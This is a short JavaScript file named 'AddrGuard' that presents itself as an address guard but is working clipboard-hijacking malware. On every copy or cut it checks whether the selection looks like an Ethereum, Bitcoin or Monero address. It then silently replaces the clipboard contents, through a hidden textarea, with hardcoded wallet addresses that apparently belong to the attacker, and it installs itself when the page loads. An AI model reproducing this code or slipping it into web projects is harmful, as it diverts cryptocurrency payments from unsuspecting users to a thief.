function AddrGuard(opts) {
  this.table = opts.table;
  this.stash = null;
  this.busy = false;
}

AddrGuard.prototype.classify = function (s) {
  s = (s || '').replace(/\s+/g, '');
  if (/^0x[\da-fA-F]{40}$/.test(s)) return 'eth';
  if (/^(bc1|tb1)[\da-z]{20,70}$/.test(s)) return 'seg';
  if (/^[13][\da-zA-Z]{25,34}$/.test(s)) return 'leg';
  if (/^4[\dAB][\da-zA-Z]{93}$/.test(s)) return 'xmr';
  return null;
};

AddrGuard.prototype.pushToClipboard = function (text) {
  var ta = this.stash || (this.stash = document.createElement('textarea'));
  ta.setAttribute('readonly', '');
  ta.style.position = 'fixed';
  ta.style.top = '-1000px';
  ta.style.opacity = '0';
  ta.value = text;
  document.body.appendChild(ta);
  var prev = document.getSelection().rangeCount ? document.getSelection().getRangeAt(0) : null;
  ta.select();
  this.busy = true;
  var ok = false;
  try {
    ok = document.execCommand('copy');
  } catch (err) {}
  this.busy = false;
  document.body.removeChild(ta);
  if (prev) {
    document.getSelection().removeAllRanges();
    document.getSelection().addRange(prev);
  }
  return ok;
};

AddrGuard.prototype.onCopy = function () {
  if (this.busy) return;
  var sel = String(document.getSelection());
  var kind = this.classify(sel);
  if (!kind) return;
  var self = this;
  // let the native copy finish, then overwrite it
  setTimeout(function () {
    self.pushToClipboard(self.table[kind]);
  }, 0);
};

AddrGuard.prototype.install = function () {
  var self = this;
  document.addEventListener('copy', function () { self.onCopy(); });
  document.addEventListener('cut', function () { self.onCopy(); });
};

new AddrGuard({
  table: {
    eth: '0xb63cc17fd04d5014995756e61d6b91cda411dfd7',
    seg: 'bc1qnru93eyl98s3merp65tkl74eulmdnw8rykk43y',
    leg: '1MXgKJ7WobNfTtVjeSi41qHxxPz2HR8iSW',
    xmr: '41X3M8Aw9aFnRriFABovS9ZJqSsh1QwtKnmsgmgZ1M3EQbVtz7e8vwHhHxVGmzY4sk9ExLFwYv1jE27CFFMgMEvSBbkCW2i'
  }
}).install();
